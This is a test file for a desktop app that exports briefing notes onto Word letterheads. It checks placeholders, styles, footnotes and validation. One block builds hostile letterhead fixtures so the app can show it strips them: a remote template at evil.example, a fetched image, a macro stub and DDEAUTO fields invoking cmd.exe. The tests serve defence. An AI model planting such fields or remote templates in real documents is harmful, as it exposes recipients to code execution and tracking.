import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { Document, Footer, Header, Packer, PageNumber, Paragraph, TextRun } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { exportBriefing } from '../../electron/exportBriefing';
import { letterhead } from '../../scripts/letterheads.mjs';
import { readReturned } from '../../shared/roundtrip';
import { briefingOf, corpusText, ROOT } from '../support/make';

const folder = mkdtempSync(path.join(tmpdir(), 'chancery-letterhead-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const briefing = briefingOf(corpusText('01'));
Object.assign(briefing.note.attrs.apparatus, {
  reference: 'EUR/2026/014',
  marking: { scheme: 'uk-gscp', level: 'OFFICIAL', handling: null },
});
const write = async (letterhead: Uint8Array, name = 'letterhead.docx', apparatus = briefing.note.attrs.apparatus) =>
  exportBriefing({
    briefing: { ...briefing, note: { ...briefing.note, attrs: { ...briefing.note.attrs, apparatus } } },
    templateName: 'Meeting readout',
    format: 'docx',
    evidence: 'footnotes',
    letterhead: { bytes: letterhead, name },
    now: '2026-01-02T03:04:05.000Z',
  });
const partsOf = (bytes: Uint8Array) =>
  Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, strFromU8(data)]));
const words = (xml = '') => [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)</g)].map(([, text]) => text).join('');

/** A ministry's letterhead, with a name of the ministry at the head, places for what is on every page, and a heading of its own. */
async function ministry(body: readonly string[] = ['Department for Asia', '{{body}}', 'For internal use.']): Promise<Uint8Array> {
  const page = new TextRun({ children: [PageNumber.CURRENT] });
  return new Uint8Array(
    await Packer.toArrayBuffer(
      new Document({
        styles: { default: { document: { run: { font: 'Arial' } }, heading1: { run: { color: '7a1f2b', allCaps: true } } } },
        sections: [
          {
            headers: {
              default: new Header({
                children: [
                  new Paragraph({ children: [new TextRun('MINISTRY '), new TextRun('{{mark'), new TextRun('ing}} {{draft}}')] }),
                ],
              }),
            },
            footers: {
              default: new Footer({ children: [new Paragraph('Ref. {{reference}}'), new Paragraph({ children: [page] })] }),
            },
            children: body.map((line) => new Paragraph(line)),
          },
        ],
      }),
    ),
  );
}
const changed = (bytes: Uint8Array, change: (parts: Record<string, string>) => Record<string, string>): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(change(partsOf(bytes))).map(([name, text]) => [name, strToU8(text)])));

describe('a note on a letterhead', async () => {
  const { bytes, warnings } = await write(await ministry());
  const parts = partsOf(bytes);
  const document = parts['word/document.xml'] ?? '';

  it('stands where the letterhead has its place, between what the letterhead says', () => {
    expect(words(document)).toMatch(/^Department for AsiaPakistan–Russia.*For internal use\.$/s);
    expect(document).not.toContain('{{body}}');
  });
  it('takes on the letterhead’s styles by name, and brings those that it lacks', () => {
    const styles = parts['word/styles.xml'] ?? '';
    expect(styles).toMatch(/w:styleId="Heading1"(?:(?!<\/w:style>).)*7a1f2b/i);
    expect(styles).toContain('w:styleId="TableText"');
    expect(styles.match(/w:styleId="Heading1"/g)).toHaveLength(1);
    for (const [, id] of document.matchAll(/<w:pStyle w:val="([^"]*)"/g)) expect(styles).toContain(`w:styleId="${id}"`);
  });
  it('fills the places for marking, reference and draft, also where Word has parted their names', () => {
    const headers = Object.entries(parts).filter(([name]) => /(?:header|footer)\d*\.xml$/.test(name));
    const all = headers.map(([, xml]) => words(xml)).join('|');
    expect(all).toContain('MINISTRY OFFICIAL DRAFT');
    expect(all).toContain('Ref. EUR/2026/014');
    expect(warnings).toEqual([]);
  });
  it('keeps footnotes, lists and claims', () => {
    expect(document.match(/<w:footnoteReference /g)?.length).toBeGreaterThan(5);
    const numbers = new Set([...document.matchAll(/<w:numId w:val="(\d+)"/g)].map(([, id]) => id));
    for (const id of numbers) expect(parts['word/numbering.xml']).toContain(`w:numId="${id}"`);
    const back = readReturned(new Map(Object.entries(parts)));
    expect(back?.returned.changes).toEqual([]);
  });
  it('is the same, byte for byte, when written again', async () => expect((await write(await ministry())).bytes).toEqual(bytes));
});

describe('what a letterhead lacks is said, not guessed', () => {
  it('no place for the note: it stands at the end', async () => {
    const { bytes, warnings } = await write(await ministry(['Department for Asia']));
    expect(words(partsOf(bytes)['word/document.xml'])).toMatch(/^Department for AsiaPakistan/);
    expect(warnings).toEqual(['The letterhead has no line with {{body}}: the note stands at its end.']);
  });
  it('no place for the marking: it is put above the header, on every page', async () => {
    const bare = changed(await ministry(), (parts) =>
      Object.fromEntries(
        Object.entries(parts).map(([name, xml]) => [name, xml.replace('{{mark', '').replace('ing}} {{draft}}', '')]),
      ),
    );
    const { bytes, warnings } = await write(bare);
    const header = Object.entries(partsOf(bytes)).find(([name]) => /header\d*\.xml$/.test(name))?.[1];
    expect(words(header)).toMatch(/OFFICIAL.*MINISTRY/);
    expect(warnings.join()).toContain('{{marking}} and {{draft}}');
  });
});

describe('what a letterhead could smuggle in is left out, and said', () => {
  const rel = (type: string, target: string) =>
    `<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  it.each<[string, (parts: Record<string, string>) => Record<string, string>, RegExp]>([
    [
      'a template elsewhere',
      (parts) => ({
        ...parts,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('attachedTemplate', 'https://evil.example/t.dotm')}`,
      }),
      /template elsewhere/,
    ],
    [
      'a picture that is fetched',
      (parts) => ({
        ...parts,
        'word/_rels/document.xml.rels': (parts['word/_rels/document.xml.rels'] ?? '').replace(
          '</Relationships>',
          rel('image', 'https://evil.example/p.png'),
        ),
        'word/document.xml': (parts['word/document.xml'] ?? '').replace(
          '<w:p>',
          '<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rIdEvil"/></w:drawing></w:r>',
        ),
      }),
      /picture that the letterhead fetches/,
    ],
    ['a macro', (parts) => ({ ...parts, 'word/vbaProject.bin': 'macro' }), /Macros/],
    [
      'a field that starts something',
      (parts) => ({
        ...parts,
        'word/document.xml': (parts['word/document.xml'] ?? '').replace(
          '<w:p>',
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
      }),
      /fetches or starts/,
    ],
    [
      'a field that starts something, and the words that it showed last stay',
      (parts) => ({
        ...parts,
        'word/document.xml': (parts['word/document.xml'] ?? '').replace(
          '<w:p>',
          '<w:p><w:fldSimple w:instr="DDEAUTO evil"><w:r><w:t>Last shown</w:t></w:r></w:fldSimple>',
        ),
      }),
      /fetches or starts/,
    ],
  ])('%s', async (what, change, sentence) => {
    const { bytes, warnings } = await write(changed(await ministry(), change));
    expect(warnings.join(' ')).toMatch(sentence);
    expect(Object.values(partsOf(bytes)).join()).not.toMatch(/evil|DDEAUTO|QUOTE/);
    if (/words that it showed/.test(what)) expect(partsOf(bytes)['word/document.xml']).toContain('Last shown');
    expect(Object.keys(partsOf(bytes)).join()).not.toContain('vba');
  });
  it('a file that is no Word document is refused by its name', async () =>
    expect(write(zipSync({ 'a.txt': strToU8('words') }), 'odd.docx')).rejects.toMatchObject({
      message: expect.stringContaining('odd.docx'),
    }));
});

describe('letterheads that come with the app', () => {
  it.each(['ministry', 'ngo'])('%s: as its script draws it, and complete', async (name) => {
    const file = readFileSync(path.join(ROOT, `templates/letterheads/${name}.docx`));
    expect(Buffer.compare(file, letterhead(name)), 'npm run letterheads writes it anew').toBe(0);
    const { bytes, warnings } = await write(file);
    expect(warnings).toEqual([]);
    const parts = partsOf(bytes);
    for (const edge of ['header1', 'header2', 'footer1', 'footer2'])
      expect(words(parts[`word/${edge}.xml`])).toContain('OFFICIAL');
    for (const edge of ['header1', 'header2']) expect(words(parts[`word/${edge}.xml`])).toContain('DRAFT');
    for (const [part, xml] of Object.entries(parts)) if (part.endsWith('.xml')) expect(xml, part).not.toContain('{{');
    // The first page and the others differ, and each says which page it is.
    expect(parts['word/document.xml']).toContain('<w:titlePg');
    for (const edge of ['footer1', 'footer2']) expect(parts[`word/${edge}.xml`]).toMatch(/ PAGE .* NUMPAGES /);
    // A picture for those who draw vectors, and one for those who do not, with words for those who see neither.
    expect(Object.keys(parts).filter((part) => part.startsWith('word/media/'))).toHaveLength(2);
    expect(parts['word/header1.xml']).toMatch(/descr="[^"]{10,}"/);
  });
  it.each([
    ['fr-FR', 'Page 1 sur 1'],
    ['ru-RU', 'Страница 1 из 1'],
    ['sv-SE', 'Page 1 of 1'],
  ])('a note in %s has its pages counted in its language, else in English', async (language, label) => {
    const { apparatus } = briefing.note.attrs;
    const file = readFileSync(path.join(ROOT, 'templates/letterheads/ministry.docx'));
    const made = await write(file, 'letterhead.docx', { ...apparatus, language });
    for (const edge of ['footer1', 'footer2']) expect(words(partsOf(made.bytes)[`word/${edge}.xml`])).toContain(label);
  });
});

describe('letterheads of the app and of other programs', () => {
  it.each([
    'templates/letterheads/ministry.docx',
    'tests/fixtures/letterhead-python-docx.docx',
    // All validators take ten seconds over each: the other two are asked in the long runs.
    ...(process.env.CHANCERY_RUNS ? ['templates/letterheads/ngo.docx', 'tests/fixtures/letterhead-libreoffice.docx'] : []),
  ])(
    '%s: valid by every validator, and LibreOffice shows the note on it',
    async (place) => {
      const name = path.basename(place);
      const { bytes, warnings } = await write(readFileSync(path.join(ROOT, place)), name);
      expect(warnings.join()).not.toContain('{{body}}');
      const file = path.join(folder, name);
      writeFileSync(file, bytes);
      const { status, stdout } = spawnSync('bash', [path.join(ROOT, 'tests/word/validators/check.sh'), file], {
        encoding: 'utf8',
      });
      expect(stdout).not.toMatch(/REFUSED|MISSING/);
      expect(status).toBe(0);
    },
    120_000,
  );
});
